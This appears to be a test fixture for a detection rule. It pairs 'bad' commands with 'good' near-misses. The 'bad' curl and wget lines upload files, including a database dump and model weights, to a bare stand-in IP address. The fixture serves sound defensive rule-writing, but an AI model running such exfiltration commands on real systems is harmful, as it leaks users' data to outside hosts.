# bad: a form
curl -F "f=@report.tgz" http://203.0.113.9/in
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
# bad: an upload
curl -T model.bin ftp://203.0.113.9/
# bad: a body
curl --data-binary @dump.sql http://203.0.113.9:8080/x
# bad: by wget
wget --post-file=notes.txt http://203.0.113.9/in
# good: nearly: a private network
curl -F "f=@report.tgz" http://192.168.1.20/in
# good: nearly: a name
curl -T model.bin https://models.example/
# good: nearly: fetched
curl -O http://203.0.113.9/report.tgz
# good: a copy that logs in
scp report.tgz deploy@203.0.113.9:/srv/
